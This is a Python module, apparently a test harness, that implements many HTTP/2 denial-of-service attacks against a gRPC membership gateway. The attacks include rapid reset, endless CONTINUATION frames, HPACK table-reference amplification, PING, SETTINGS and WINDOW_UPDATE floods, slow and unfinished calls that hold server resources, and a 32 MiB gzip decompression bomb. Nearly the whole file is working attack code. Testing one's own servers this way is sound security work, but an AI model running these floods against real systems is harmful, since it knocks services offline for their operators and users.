"""Attacks on the gateway by frames of HTTP/2. Each is called with a Link and with what says whether
the attack is over, and yields how many bytes it has sent.
"""

import gzip
import struct
import time

import http2
from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM,
                   SETTINGS, WINDOW_UPDATE, frame, literal)

PRIORITY, PRIORITY_UPDATE, UNKNOWN = 2, 0x10, 0xee
PADDED = 8
GET_MEMBER = '/baliprocess.membership.v1.MembershipService/GetMember'
LIST_MEMBERS = '/baliprocess.membership.v1.MembershipService/ListMembers'
LIST_BODIES = '/baliprocess.membership.v1.MembershipService/ListBodies'
ALL_BODIES = b'\0\0\0\0\3\x10\xe8\x07'  # page_size: 1000
PORTION = 64 << 10  # what is sent at once


def head(path=GET_MEMBER, fields=()):
    return b''.join(literal(name, value) for name, value in [
        (':method', 'POST'), (':scheme', 'https'), (':path', path), (':authority', 'suite'),
        ('te', 'trailers'), ('content-type', 'application/grpc'), *fields])


def portion(one):
    """Many of the same frame."""
    return one * (PORTION // len(one))


def repeat(one, prepare=None):
    """The attack that sends the same bytes again and again."""
    def attack(link, over):
        if prepare:
            link.send(prepare(link))
        data = portion(one)
        while not over():
            link.send(data)
            yield len(data)
    return attack


def open_call(link):
    return frame(HEADERS, END_HEADERS, link.next_stream(), head())


REFERENCES = b'\xbe' * (16 << 10)  # to the newest entry of HPACK's table, 16,000 times
LARGE = 'v' * 3900


def references(link, over, make, value=LARGE):
    """Puts one large entry into HPACK's table, then sends what `make` makes of each stream."""
    large = b'\x40' + http2.literal('x-large', value)[1:]
    link.send(frame(HEADERS, END_HEADERS | END_STREAM, link.next_stream(), head() + large))
    while not over():
        data = make(link.next_stream())
        link.send(data)
        yield len(data)


def referring_head(stream):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, (head() + REFERENCES)[:16 << 10])


def header_references(link, over):
    """References in a call's head."""
    return references(link, over, referring_head)


def ignored_references(link, over):
    """References to an entry whose value HTTP/2 forbids, at its very end."""
    return references(link, over, referring_head, LARGE[1:] + '\x01')


def trailer_references(link, over):
    """References behind a call's head, where trailers would be."""
    return references(link, over, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, head()) +
        frame(HEADERS, END_HEADERS | END_STREAM, stream, REFERENCES)))


def continued_references(link, over):
    """References in CONTINUATION frames."""
    return references(link, over, lambda stream: (
        frame(HEADERS, END_STREAM, stream, head()) + frame(CONTINUATION, 0, stream, REFERENCES) * 6 +
        frame(CONTINUATION, END_HEADERS, stream, REFERENCES)))


def unfinished_head(link):
    return frame(HEADERS, END_STREAM, link.next_stream(), head())


def continued(payload):
    """CONTINUATION frames that have no end."""
    def attack(link, over):
        link.send(unfinished_head(link))
        data = portion(frame(CONTINUATION, 0, link.stream, payload))
        while not over():
            link.send(data)
            yield len(data)
    return attack


def slow_head(link, over):
    """A byte of a head now and then."""
    link.send(unfinished_head(link) + frame(CONTINUATION, 0, link.stream, literal('x', 'y' * 99)[:9]))
    while not over():
        data = frame(CONTINUATION, 0, link.stream, b'y')
        link.send(data)
        yield len(data)
        for _ in link.read(0.8):
            pass


def made_resets(link, over):
    """Calls whose streams the gateway has to reset, for a window that is opened by nothing."""
    while not over():
        data = b''
        for _ in range(100):
            data += open_call(link) + frame(WINDOW_UPDATE, 0, link.stream, bytes(4))
        link.send(data)
        yield len(data)


def rapid_reset(link, over):
    while not over():
        data = b''
        for _ in range(100):
            stream = link.next_stream()
            data += frame(HEADERS, END_HEADERS, stream, head())
            data += frame(RST_STREAM, 0, stream, struct.pack('>I', 8))
        link.send(data)
        yield len(data)


def data_after_reset(link, over):
    link.send(open_call(link) + frame(RST_STREAM, 0, link.stream, struct.pack('>I', 8)))
    data = portion(frame(DATA, 0, link.stream, b'x'))
    while not over():
        link.send(data)
        yield len(data)


def small_data(payload, flags=0):
    """DATA that moves next to nothing, on a call whose message is announced as 4 MiB."""
    def attack(link, over):
        link.send(open_call(link) + frame(DATA, 0, link.stream, b'\0\0\x3f\xff\xff'))
        data = portion(frame(DATA, flags, link.stream, payload))
        while not over():
            link.send(data)
            yield len(data)
    return attack


def tiny_windows(link, over):
    """A long reply in windows of a byte each."""
    stream = link.next_stream()
    link.send(frame(SETTINGS, payload=struct.pack('>HI', 4, 0)) +
              frame(HEADERS, END_HEADERS, stream, head(LIST_MEMBERS)) +
              frame(DATA, END_STREAM, stream, b'\0\0\0\0\0'))
    data = portion(frame(WINDOW_UPDATE, 0, stream, struct.pack('>I', 1)))
    while not over():
        link.send(data)
        yield len(data)


def too_many_streams(link, over):
    while not over():
        data = b''.join(frame(HEADERS, END_HEADERS, link.next_stream(), head()) for _ in range(100))
        link.send(data)
        yield len(data)


def held(make, streams=90):
    """Calls that are opened and then left as they are; anew when they have ended."""
    def attack(link, over):
        while not over():
            data = b''.join(make(link) for _ in range(streams))
            for start in range(0, len(data), PORTION):
                link.send(data[start:start + PORTION])
                yield len(data[start:start + PORTION])
                for kind, _, stream, _ in link.read():
                    pass
            live = time.monotonic() + 2
            while time.monotonic() < live and not over():
                for _ in link.read(0.1):
                    pass
    return attack


def unfinished_large(link):
    """4 MiB announced, half of it sent at once; the rest would need windows that aren't given."""
    stream = link.next_stream()
    data = frame(HEADERS, END_HEADERS, stream, head()) + \
        frame(DATA, 0, stream, b'\0\0\x40\0\0')
    return data + frame(DATA, 0, stream, bytes(16000)) * 8


def unfinished_small(link):
    return frame(HEADERS, END_HEADERS, link.next_stream(), head()) + \
        frame(DATA, 0, link.stream, b'\0\0\0')


def unread(link):
    """A list whose reply isn't taken: the window of its stream stays closed."""
    stream = link.next_stream()
    return frame(SETTINGS, payload=struct.pack('>HI', 4, 0)) + \
        frame(HEADERS, END_HEADERS, stream, head(LIST_MEMBERS)) + \
        frame(DATA, END_STREAM, stream, b'\0\0\0\0\0')


def unread_page(link):
    """A page of a MiB of which nothing is taken."""
    stream = link.next_stream()
    return frame(HEADERS, END_HEADERS, stream, head(LIST_BODIES)) + \
        frame(DATA, END_STREAM, stream, ALL_BODIES)


def unread_pages(link, over):
    link.send(frame(SETTINGS, payload=struct.pack('>HI', 4, 0)))
    return held(unread_page, 100)(link, over)


def unread_socket(link, over):
    """The windows are wide open, and the socket isn't read."""
    link.send(frame(SETTINGS, payload=struct.pack('>HI', 4, 1 << 30)) +
              frame(WINDOW_UPDATE, payload=struct.pack('>I', 1 << 30)))
    data = b''.join(unread_page(link) for _ in range(100))
    link.send(data)
    yield len(data)
    while not over():
        time.sleep(0.1)


def bad_tokens(link, over):
    token = 'Bearer eyJhbGciOiJFUzI1NiJ9.' + 'e30' * 100 + '.' + 'A' * 86
    while not over():
        data = b''.join(
            frame(HEADERS, END_HEADERS | END_STREAM, link.next_stream(),
                  head(fields=[('authorization', token)])) for _ in range(50))
        link.send(data)
        yield len(data)


SETTING = struct.pack('>HI', 1, 0)
TABLE_FLIP = struct.pack('>HI', 1, 0) + struct.pack('>HI', 1, 4096)
WINDOW_FLIP = struct.pack('>HI', 4, 0) + struct.pack('>HI', 4, 65535)
FLOODS = {
    'ping': repeat(frame(PING, payload=b'12345678')),
    'ping_ack': repeat(frame(PING, ACK, payload=b'12345678')),
    'settings': repeat(frame(SETTINGS)),
    'large_settings': repeat(frame(SETTINGS, payload=SETTING * 2000)),
    'window_flips': repeat(frame(SETTINGS, payload=WINDOW_FLIP),
                           lambda link: b''.join(open_call(link) for _ in range(90))),
    'table_flips': repeat(frame(SETTINGS, payload=TABLE_FLIP)),
    'goaway': repeat(frame(GOAWAY, payload=struct.pack('>II', 0, 0)), open_call),
    'window_update': repeat(frame(WINDOW_UPDATE, payload=struct.pack('>I', 1))),
    'priority': repeat(frame(PRIORITY, 0, 1, b'\0\0\0\0\x10'), open_call),
    'priority_update': repeat(frame(PRIORITY_UPDATE, payload=b'\0\0\0\1u=1'), open_call),
    'unknown': repeat(frame(UNKNOWN)),
    'empty_data': small_data(b''),
    'padded_data': small_data(b'\xff' + bytes(255), PADDED),
    'one_byte_data': small_data(b'x'),
    'padded_one_byte_data': small_data(b'\x01x\0', PADDED),
    'data_after_reset': data_after_reset,
    'rst_of_closed': repeat(frame(RST_STREAM, 0, 1, struct.pack('>I', 8)), open_call),
    'tiny_windows': tiny_windows,
    'header_references': header_references,
    'ignored_references': ignored_references,
    'trailer_references': trailer_references,
    'continued_references': continued_references,
    'continuation': continued(b''),
    'continued_fields': continued(literal('x', 'y') * 2000),
    'made_resets': made_resets,
    'rapid_reset': rapid_reset,
    'too_many_streams': too_many_streams,
    'bad_tokens': bad_tokens,
}


def paced(per_second, make):
    """The attack that needs no flood: a few calls a second."""
    def attack(link, over):
        while not over():
            data = make(link)
            link.send(data)
            yield len(data)
            for _ in link.read(1 / per_second):
                pass
    return attack


def whole_call(link, fields=(), message=b'\0\0\0\0\0', path=GET_MEMBER):
    stream = link.next_stream()
    data = frame(HEADERS, END_HEADERS, stream, head(path, fields))
    for start in range(0, len(message), 16000):
        last = start + 16000 >= len(message)
        data += frame(DATA, END_STREAM if last else 0, stream, message[start:start + 16000])
    return data


HELD = {
    'slow_head': slow_head,
    'unfinished_large': held(unfinished_large),
    'unfinished_small': held(unfinished_small),
    'unread_replies': held(unread),
    'unread_pages': unread_pages,
    'unread_socket': unread_socket,
}
BOMB = gzip.compress(bytes(32 << 20))
PACED = {
    'bad_binary_field': paced(50, lambda link: whole_call(link, [('x-bin', '***')])),
    'large_headers': paced(50, lambda link: whole_call(link, [('x-large', 'x' * 9000)])),
    'gzip_bomb': paced(20, lambda link: whole_call(
        link, [('grpc-encoding', 'gzip')], struct.pack('>BI', 1, len(BOMB)) + BOMB)),
}
